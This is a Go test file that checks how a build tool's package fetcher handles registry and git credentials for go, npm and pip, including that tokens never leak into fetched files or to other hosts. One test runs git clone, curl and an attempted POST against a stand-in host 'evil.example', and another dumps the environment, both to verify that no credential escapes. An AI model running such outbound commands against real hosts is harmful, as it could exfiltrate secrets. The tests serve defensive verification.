package packages

import (
	"encoding/base64"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/bobbinhq/bobbin/repo/build/packages/packagestest"
	"github.com/bobbinhq/bobbin/repo/build/proxy"
	"github.com/bobbinhq/bobbin/repo/git/remote"
)

const token = "s3cr3t-token-0123456789"

// basic returns the Authorization header for a user with the token.
func basic(user string) string {
	return "Basic " + base64.StdEncoding.EncodeToString([]byte(user+":"+token))
}

// withLogin returns a fetcher and a job whose registry speaks TLS and demands the header.
func withLogin(t *testing.T, tree files, login proxy.Login, header string) (*Fetcher, Job, registry) {
	t.Helper()
	f, j, r := fetching(t, box(t), tree)
	f.Roots = r.Roots()
	r.Demand("/", header)
	login.Host = registryHost
	login.Token = token
	login.Name = "the token in NPM_TOKEN"
	j.Config.Logins = []proxy.Login{login}
	j.Config.Env = []string{
		"GOPROXY=https://" + registryHost + "/go", "GONOSUMDB=*",
		"npm_config_registry=https://" + registryHost + "/npm/",
		"PIP_INDEX_URL=https://" + registryHost + "/pypi/",
	}
	return f, j, r
}

// requireNowhere checks that no file of the fetched packages has the token in it, and that no host but the
// registry got it.
func requireNowhere(t *testing.T, j Job, r registry) {
	t.Helper()
	require.NoError(t, filepath.WalkDir(j.Dir, func(file string, d os.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		text, err := os.ReadFile(file)
		require.NotContains(t, string(text), token, file)
		require.NotContains(t, string(text), strings.TrimPrefix(basic(""), "Basic "), file)
		return err
	}))
	for _, sent := range r.Sent() {
		require.True(t, sent.Authorization == "" || sent.Host == registryHost, sent)
	}
}

// scoped returns a package.json, an .npmrc and a lock file that name @acme/shop at the registry.
func scoped(t *testing.T, r registry) files {
	t.Helper()
	archive, integrity := nodePackage(t, "1.0.0")
	const at = "/npm/@acme/left-shop/-/left-shop-1.0.0.tgz"
	r.Give(at, archive)
	about, err := json.Marshal(map[string]any{
		"name": "@acme/left-shop", "dist-tags": map[string]string{"latest": "1.0.0"},
		"versions": map[string]any{"1.0.0": map[string]any{
			"name": "@acme/left-shop", "version": "1.0.0",
			"dist": map[string]string{"tarball": "https://" + registryHost + at, "integrity": integrity},
		}},
	})
	require.NoError(t, err)
	r.Give("/npm/@acme/left-shop", about)
	return files{
		"package.json": `{"name":"shop","version":"1.0.0","dependencies":{"@acme/left-shop":"1.0.0"}}`,
		".npmrc": "@acme:registry=https://" + registryHost + "/npm/\n" +
			"//" + registryHost + "/npm/:_authToken=${OTHER_TOKEN}\n",
	}
}

// Registries that demand a login give their packages to npm, pip and go, and nobody but the registry sees the
// token. Control: with another token they answer 401.
func TestRegistriesWithALogin(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		tool, line, denied string
		login              proxy.Login
		header             string
		tree               func(registry) files
	}{
		"go": {
			"go version", "go build ./... && echo hello", "example.com/greet",
			proxy.Login{},
			"Bearer " + token,
			func(registry) files { return goFiles() },
		},
		"npm": {
			"npm --version", `node -p 'require("@acme/left-shop")'`, "@acme/left-shop",
			proxy.Login{},
			"Bearer " + token,
			func(r registry) files { return scoped(t, r) },
		},
		"pip": {
			"python3 -m pip --version", "python3 -c 'import left_shop; print(left_shop.HELLO)'", "left-shop",
			proxy.Login{User: "ann"},
			basic("ann"),
			func(registry) files { return files{"requirements.txt": "left-shop==1.0.0\n"} },
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			able(t, box(t), c.tool)
			f, j, r := withLogin(t, files{"a": ""}, c.login, c.header)
			tree := c.tree(r)
			j.Commits, j.Commit = mirrorOf(t, tree)
			out, err := run(t, f.Sandbox, fetch(t, f, j), tree, c.line)
			require.NoError(t, err, out)
			require.Equal(t, "hello\n", out)
			requireNowhere(t, j, r)

			j.Dir = filepath.Join(t.TempDir(), "wrong")
			j.Config.Logins[0].Token = "the wrong one"
			e := failure(t, f, j)
			require.Contains(t, e.Why, registryHost+" answered 401 for "+c.denied+
				": the token in NPM_TOKEN is not accepted")
			require.Equal(t, "renew it, and check that it may read packages there", e.Cure)
		})
	}
}

// What commands see of a login: a file of authorities that has those of this machine, too, and nothing of the
// token.
func TestWhatCommandsSeeOfALogin(t *testing.T) {
	t.Parallel()
	f, j, _ := withLogin(t, goFiles(), proxy.Login{}, "Bearer "+token)
	j.Config.Run = []string{
		"env > $PACKAGES/go/env; cp $SSL_CERT_FILE $PACKAGES/go/authorities; ! touch $SSL_CERT_FILE; " +
			"curl -sSf https://" + registryHost + "/go/example.com/greet/@v/v1.0.0.info > $PACKAGES/go/info",
	}
	p := fetch(t, f, j)
	text := func(name string) string {
		b, err := os.ReadFile(filepath.Join(p.sets[0].dir, "out", "go", name))
		require.NoError(t, err)
		return string(b)
	}
	require.NotContains(t, text("env"), token)
	require.Contains(t, text("env"), "NODE_EXTRA_CA_CERTS=/trust/certificates.pem")
	require.Equal(t, `{"Version":"v1.0.0"}`, text("info"))
	machine, err := os.ReadFile("/etc/ssl/certs/ca-certificates.crt")
	require.NoError(t, err)
	require.True(t, strings.HasPrefix(text("authorities"), string(machine)))
}

// A git repository at the host of the job's own remote is fetched with the credential of the remote, which
// git gets as a password, and which requests that are not git's do not get. Control: without the credential,
// the repository cannot be fetched.
func TestGitPackagesByTheRemotesCredential(t *testing.T) {
	t.Parallel()
	able(t, box(t), "git --version")
	f, j, r := gitJob(t, goFiles())
	f.Roots = r.Roots()
	j.Config.Env = nil
	r.giveGit(t, "/git/lib.git", files{"a": "from git\n"})
	r.Demand("/git/lib.git/info/refs", basic(remote.BasicUser))
	j.Config.Run = []string{"git clone -q git@evil.example:git/lib.git $PACKAGES/go/lib && " +
		"curl -s https://evil.example/git/lib.git/HEAD && " +
		"! curl -sf -X POST https://evil.example/git/lib.git/x"}
	j.Remote = remote.Remote{
		URL:         "https://" + packagestest.Elsewhere + "/acme/shop.git",
		Credentials: remote.Token{Value: token, Name: "the token in BOBBIN_GIT_TOKEN"},
	}
	p := fetch(t, f, j)
	require.FileExists(t, filepath.Join(p.sets[0].dir, "out", "go", "lib", "a"))
	require.Equal(t, "with a login only reading is let through, not POST", p.Refused[0].Why)
	for _, sent := range r.Sent() {
		if sent.Path == "/git/lib.git/info/refs" {
			require.Equal(t, basic(remote.BasicUser), sent.Authorization)
		} else {
			require.Empty(t, sent.Authorization, sent.Path)
		}
	}

	j.Remote.Credentials = remote.Token{Value: "another", Name: "the token in BOBBIN_GIT_TOKEN"}
	j.Dir = filepath.Join(t.TempDir(), "other")
	require.Contains(t, failure(t, f, j).Why,
		"evil.example answered 401 for git/lib: the token in BOBBIN_GIT_TOKEN is not accepted")
}

func TestNamesOfPackagesInPaths(t *testing.T) {
	t.Parallel()
	for at, want := range map[string]string{
		"/@acme/ui": "@acme/ui", "/npm/@acme%2fui": "@acme/ui", "/npm/@acme/ui/-/ui-1.0.0.tgz": "@acme/ui",
		"/download/@acme/ui/1.0.0/abc":                  "@acme/ui",
		"/left-shop/-/left-shop-1.0.0.tgz":              "left-shop",
		"/left-shop":                                    "left-shop",
		"/simple/acme-lib/":                             "acme-lib",
		"/go/acme.com/lib/v2/@v/list":                   "acme.com/lib/v2",
		"/acme.com/lib/@latest":                         "acme.com/lib",
		"/acme/lib.git/info/refs":                       "acme/lib",
		"/acme/lib/git-upload-pack":                     "acme/lib",
		"/gems/acme-lib-1.2.0.gem":                      "acme-lib",
		"/quick/Marshal.4.8/left_shop-1.0.0.gemspec.rz": "left_shop",
		"/info/acme-lib":                                "acme-lib",
		"/ac/me/acme-lib":                               "acme-lib",
		"/":                                             "/",
		"/a`b":                                          "a'b",
	} {
		require.Equal(t, want, packageOf(at), at)
	}
}

// Modules of a host with a login are asked for there, and at no public proxy.
func TestPrivateModules(t *testing.T) {
	t.Parallel()
	own := remote.Remote{URL: "https://github.com/acme/shop.git", Credentials: remote.Token{Value: token}}
	for _, c := range []struct {
		job  Job
		own  []string
		want []string
	}{
		{Job{Remote: own}, nil, nil},
		{
			Job{Remote: own, Config: Config{Allow: []string{"github.com"}}},
			nil,
			[]string{"GOPRIVATE=github.com/acme"},
		},
		{
			Job{Config: Config{Logins: []proxy.Login{{Host: "git.acme.com"}, {Host: "npm.acme.com:8443"}}}},
			[]string{"GOPRIVATE=b.example", "GONOSUMDB=*"},
			[]string{
				"GOPRIVATE=git.acme.com", "GOPRIVATE=git.acme.com,b.example", "GONOSUMDB=git.acme.com,*",
			},
		},
		{Job{Config: Config{Logins: []proxy.Login{{Host: "github.com"}}}}, nil, nil},
	} {
		require.Equal(t, c.want, c.job.privateVariables(c.own))
	}
}
